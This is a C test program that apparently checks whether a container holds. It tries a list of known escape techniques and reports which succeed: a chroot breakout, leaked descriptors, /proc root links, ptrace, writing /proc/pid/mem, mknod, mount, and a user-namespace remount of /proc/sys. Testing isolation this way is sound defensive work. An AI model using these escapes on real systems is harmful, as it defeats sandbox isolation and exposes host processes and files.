/*
 * attacks.c: known ways out of a container. The first argument names one.
 * Ends with 0 if it got what it wants, with 1 if not.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int can_write(const char *file)
{
	return open(file, O_WRONLY | O_CLOEXEC) != -1;
}

static int attack(const char *name, const char *what)
{
	const int pid = atoi(what);
	char path[64];

	if (strcmp(name, "chroot") == 0) {
		/* The working directory stays outside of the new root: from there up. */
		mkdir("/tmp/jail", 0755);
		if (chroot("/tmp/jail") == -1)
			return 0;
		for (int i = 0; i < 64; i++)
			if (chdir("..") == -1)
				return 0;
		return chroot(".") == 0 && access("run/outside", F_OK) == 0;
	} else if (strcmp(name, "socket") == 0) {
		/* An abstract name: it belongs to the network, and to no file. */
		struct sockaddr_un there = { AF_UNIX, "\0test" };
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);

		if (*what == '\0')
			return connect(fd, (void *)&there, sizeof(there)) == 0;
		if (bind(fd, (void *)&there, sizeof(there)) == 0 &&
		    listen(fd, 9) == 0)
			pause();
	} else if (strcmp(name, "descriptor") == 0) {
		for (int fd = 3; fd < 256; fd++)
			if (fchdir(fd) == 0 && access("run/outside", F_OK) == 0)
				return 1;
	} else if (strcmp(name, "proc") == 0) {
		const char *const links[] = { "root", "cwd" };

		for (int i = 0; i < 4; i++) {
			snprintf(path, sizeof(path), "/proc/%d/%s/run/outside",
				 i & 1 ? pid : 1, links[i / 2]);
			if (access(path, F_OK) == 0)
				return 1;
		}
	} else if (strcmp(name, "kill") == 0) {
		return kill(pid, SIGWINCH) == 0;
	} else if (strcmp(name, "pidfd") == 0) {
		return syscall(SYS_pidfd_open, pid, 0) != -1;
	} else if (strcmp(name, "ptrace") == 0) {
		return ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;
	} else if (strcmp(name, "memory") == 0) {
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		return open(path, O_RDWR) != -1;
	} else if (strcmp(name, "mknod") == 0) {
		return mknod("/tmp/disk", S_IFBLK | 0600, makedev(7, 0)) == 0 &&
			unlink("/tmp/disk") == 0;
	} else if (strcmp(name, "disk") == 0) {
		/* Who may mount disks gets another error: there is no such disk. */
		mount("/nothing", "/tmp", "ext4", MS_RDONLY, NULL);
		return errno != EPERM;
	} else if (strcmp(name, "hostname") == 0) {
		return sethostname("attacked", 8) == 0;
	} else if (strcmp(name, "write") == 0) {
		return can_write(what);
	} else if (strcmp(name, "write-userns") == 0) {
		/* All capabilities again, in a user namespace: can it uncover /proc/sys? */
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) == -1 ||
		    fork() != 0)
			return wait(NULL) != -1 &&
				access("/tmp/attacked", F_OK) == 0;
		umount2("/proc/sys", MNT_DETACH);
		mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
		if (can_write(what) ||
		    mount("proc", "/dev", "proc", 0, NULL) == 0)
			mkdir("/tmp/attacked", 0700);
		exit(0);
	}
	return 0;
}

int main(int argc, char *argv[])
{
	return argc < 2 || !attack(argv[1], argc > 2 ? argv[2] : "");
}
